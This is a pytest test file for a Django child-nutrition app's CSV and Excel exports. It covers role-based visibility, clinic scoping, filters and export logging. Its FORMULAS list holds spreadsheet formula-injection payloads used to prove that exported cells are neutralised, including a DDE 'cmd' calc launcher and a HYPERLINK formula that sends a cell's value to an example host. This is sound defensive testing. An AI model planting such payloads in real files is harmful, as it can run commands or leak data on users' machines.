"""Rows as files: what is in them for whom, and that no cell of them runs."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse

from accounts.models import Role
from analytics.exports.cells import safe_text
from analytics.exports.layouts import TABLES
from analytics.exports.models import ExportLog
from analytics.exports.scope import Filters, scope_of
from analytics.exports.writers import csv_cell, csv_pieces, write_xlsx
from children.import_files import read_rows
from children.imports import import_rows
from children.models import Child, Measurement

VISIT = {"weight_kg": 7.05, "length_height_cm": 80.3, "position": "length", "muac_mm": 118, "oedema": False}
# What opens a calculation or a command in Excel, LibreOffice or Google Sheets, and the ways around a naive guard.
FORMULAS = (
    *(f"{start}1+1" for start in "=+-@"),
    *(f"{start}SUM(A1:A9)" for start in "=+-@"),
    *(f"{start}cmd|' /C calc'!A0" for start in "=+-@"),
    *(f"{start}HYPERLINK(1)" for start in "＝＋－＠"),
    *(f"{start}1+1" for start in "＝＋－＠"),
    *(f"{blank}=1+1" for blank in ("\t", "\r", "\n", " ", "  ", "\u00a0", "\u200b", "\ufeff", '"', "'")),
    *("\t1", "\r1", "\n1", "x\n=1+1", "x\r=1+1", "x\t=1+1", "x;=1+1", "x;@SUM(1)"),
    '=HYPERLINK("http://example.org?x="&A1,"Click")',
    "=IMPORTXML(CONCAT(A1),1)",
)
HARMLESS = ("Amina Yusuf", "O'Brien", "Nguyễn Thị", "أمينة", "क्षितिज", "a-b", "x@example.org", "1+1=2", "", "3 = 3")


@pytest.fixture
def make_export(client):
    """Return a maker of exports over the page: `make_export(user, "visits", format="csv")`."""

    def make(user, table, **query):
        client.force_login(user)
        return client.get(reverse("export_file", query={"table": table, **query}))

    return make


def content_of(answer) -> bytes:
    return b"".join(answer.streaming_content)


def rows_of(answer) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content_of(answer).decode("utf-8-sig"), newline="")))


def sheet_rows(answer) -> list[dict[str, object]]:
    sheet = openpyxl.load_workbook(io.BytesIO(content_of(answer))).active
    header, *rows = sheet.iter_rows(values_only=True)
    return [dict(zip(header, row, strict=True)) for row in rows]


def begins_a_formula(cell: str) -> bool:
    """Say whether a spreadsheet would calculate: blanks and unseen signs before it do not help."""
    return cell.lstrip(' \t\r\n\u00a0\u200b\ufeff"').startswith(tuple("=+-@＝＋－＠"))


def test_there_are_forty_ways_to_try():
    assert len(set(FORMULAS)) == 40


@pytest.mark.parametrize("payload", FORMULAS)
def test_no_text_begins_a_formula_in_a_csv(payload):
    written = b"".join(csv_pieces(["name", "z"], [[payload, Decimal("-3.21")]], bom=False)).decode()

    _header, (name, z) = csv.reader(io.StringIO(written, newline=""))
    # Read by a program whose separator is a semicolon, a tab or a line, too.
    assert not any(begins_a_formula(part) for part in name.replace("\r", "\n").replace("\t", "\n").split("\n"))
    assert not any(begins_a_formula(part) for part in name.split(";"))
    assert z == "-3.21"


@pytest.mark.parametrize("payload", FORMULAS)
def test_no_text_is_a_formula_in_an_excel_file(payload, tmp_path):
    path = tmp_path / "x.xlsx"

    write_xlsx(path, ["name", "z"], [[payload, Decimal("-3.21")]])

    name, z = openpyxl.load_workbook(path).active[2]
    assert name.data_type == "s"
    assert not begins_a_formula(name.value)
    assert z.data_type == "n"
    assert z.value == -3.21


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_is_left_alone(text):
    assert safe_text(text) == text


@pytest.mark.parametrize("z", [Decimal("-0.01"), Decimal("-6.00"), Decimal("-3.20"), Decimal("0.00"), Decimal("4.99")])
def test_numbers_come_back_as_they_went(z, tmp_path):
    write_xlsx(tmp_path / "x.xlsx", ["z"], [[z]])

    assert Decimal(csv_cell(z)) == z
    assert csv_cell(float(z)) == repr(float(z))
    assert openpyxl.load_workbook(tmp_path / "x.xlsx").active["A2"].value == float(z)


@pytest.mark.django_db
@pytest.mark.parametrize("table", TABLES.values(), ids=TABLES)
def test_names_that_are_formulas_are_harmless_in_every_table(table, make_measurement, child, health_worker):
    make_measurement(**VISIT, measured_by="-2+3")
    scope, begun = scope_of(health_worker), []

    for payload in FORMULAS:
        Child.objects.filter(pk=child.pk).update(name=payload)
        rows = [*table.read(scope, Filters())]
        begun += [v for row in rows for v in row if isinstance(v, str) and begins_a_formula(csv_cell(v))]

    assert rows
    assert begun == []


@pytest.mark.django_db
def test_visits_hold_typed_numbers_dates_and_the_stored_zscores(make_export, make_measurement, health_worker, child):
    visit = make_measurement(**VISIT)
    stored = visit.assessment

    (row,) = rows_of(make_export(health_worker, "visits"))
    (cells,) = sheet_rows(make_export(health_worker, "visits", format="xlsx"))

    assert stored.whz < 0
    for index in ("haz", "waz", "whz"):
        assert Decimal(row[index]) == getattr(stored, index)
        assert cells[index] == float(getattr(stored, index))
    assert (row["weight_kg"], row["muac_mm"], row["oedema"]) == ("7.050", "118.0", "n")
    assert row["measured_on"] == visit.measured_on.isoformat()
    assert cells["measured_on"].date() == visit.measured_on
    assert (row["name"], row["child"]) == (child.name, child.code)


@pytest.mark.django_db
@pytest.mark.parametrize("table", TABLES)
def test_managers_take_codes_along_and_no_name(table, make_export, make_measurement, make_user, child):
    make_measurement(**VISIT, measured_by="Zainab Warsame")
    manager = make_user("manager", Role.PROGRAMME_MANAGER)

    content = content_of(make_export(manager, table)).decode()

    assert child.code in content
    assert child.name not in content
    assert "Halima" not in content
    assert "Zainab" not in content
    assert child.born_on.isoformat() not in content
    assert f"{child.born_on:%m/%d/%Y}" not in content


@pytest.mark.django_db
@pytest.mark.parametrize("role", [Role.PARTNER, Role.ADMINISTRATOR])
def test_partners_and_administrators_take_no_rows_along(role, make_export, make_user, child):
    assert make_export(make_user("somebody", role), "children").status_code == 404
    assert not ExportLog.objects.exists()


@pytest.mark.django_db
def test_nobody_takes_rows_of_other_clinics_along(make_export, make_measurement, outsider, clinic):
    make_measurement(**VISIT)

    assert rows_of(make_export(outsider, "visits")) == []
    assert make_export(outsider, "visits", clinic=str(clinic.pk)).url == reverse("exports")


@pytest.mark.django_db
def test_filters_are_in_the_address(make_export, make_measurement, health_worker):
    make_measurement(**VISIT, measured_on=date(2026, 9, 30))
    make_measurement(**VISIT, measured_on=date(2026, 10, 15))

    rows = rows_of(make_export(health_worker, "visits", since="2026-10-01", until="2026-10-31"))

    assert [row["measured_on"] for row in rows] == ["2026-10-15"]


@pytest.mark.django_db
@pytest.mark.parametrize("query", [{"since": "soon"}, {"clinic": "x"}, {"format": "exe"}])
def test_what_cannot_be_read_is_refused_in_words(query, make_export, health_worker, child, client):
    answer = make_export(health_worker, "visits", **query)

    assert answer.url == reverse("exports")
    assert "notice-error" in client.get(answer.url).text


@pytest.mark.django_db
def test_who_anthro_reads_muac_in_cm_and_ena_in_mm(make_export, make_measurement, health_worker):
    visit = make_measurement(**VISIT)

    (anthro,) = rows_of(make_export(health_worker, "visits_who_anthro"))
    (ena,) = rows_of(make_export(health_worker, "visits_ena"))

    assert Decimal(anthro["armc"]) == Decimal("11.8")
    assert Decimal(ena["MUAC"]) == Decimal(118)
    assert (anthro["sex"], anthro["measure"], anthro["oedema"]) == ("2", "L", "n")
    assert ena["SURVDATE"] == f"{visit.measured_on:%m/%d/%Y}"
    assert int(anthro["age_days"]) == visit.assessment.age_days


@pytest.mark.django_db
def test_exported_visits_can_be_imported_again(make_export, make_measurement, health_worker, tmp_path):
    make_measurement(**VISIT, days_ago=40)
    visit = make_measurement(**{**VISIT, "weight_kg": 7.4})
    path = tmp_path / "visits.csv"

    path.write_bytes(content_of(make_export(health_worker, "visits_import")))

    again = import_rows(read_rows(path), recorded_by=health_worker)
    assert (again.there_before, again.stored, again.problems) == (2, 0, {})
    assert Measurement.objects.get(pk=visit.pk).weight_kg == Decimal("7.400")


@pytest.mark.django_db
def test_an_empty_export_has_its_header(make_export, health_worker, child):
    assert content_of(make_export(health_worker, "alerts", bom="no")).decode().startswith("alert,child,name,clinic")
    assert sheet_rows(make_export(health_worker, "alerts", format="xlsx")) == []


@pytest.mark.django_db
def test_a_csv_says_that_it_is_utf8_unless_asked_not_to(make_export, health_worker, child):
    assert content_of(make_export(health_worker, "children")).startswith(b"\xef\xbb\xbf")
    assert not content_of(make_export(health_worker, "children", bom="no")).startswith(b"\xef\xbb\xbf")


@pytest.mark.django_db
def test_every_export_is_noted_with_who_what_filter_and_rows(make_export, make_measurement, health_worker, clinic):
    make_measurement(**VISIT)

    content_of(make_export(health_worker, "visits", clinic=str(clinic.pk), since="2026-01-01"))
    content_of(make_export(health_worker, "children", format="xlsx"))

    second, first = ExportLog.objects.all()
    assert (first.user, first.table, first.rows, first.with_names) == (health_worker, "visits", 1, True)
    assert first.filters == {"clinic": str(clinic.pk), "since": "2026-01-01"}
    assert (second.table, second.file_format, second.rows) == ("children", "xlsx", 1)


@pytest.mark.django_db
def test_a_download_that_was_broken_off_is_noted_without_rows(make_export, health_worker, child):
    make_export(health_worker, "children")  # nobody reads the answer

    assert ExportLog.objects.get().rows is None


@pytest.mark.django_db
def test_the_log_is_for_supervisors_and_administrators(
    make_export, client, child, health_worker, supervisor, outsider, make_user
):
    content_of(make_export(health_worker, "children"))
    partner = make_user("partner", Role.PARTNER)

    shown = {}
    for user in (supervisor, make_user("admin", Role.ADMINISTRATOR), outsider, partner):
        client.force_login(user)
        shown[user.username] = ">worker</td>" in client.get(reverse("exports")).text

    assert shown == {"supervisor": True, "admin": True, "outsider": False, "partner": False}
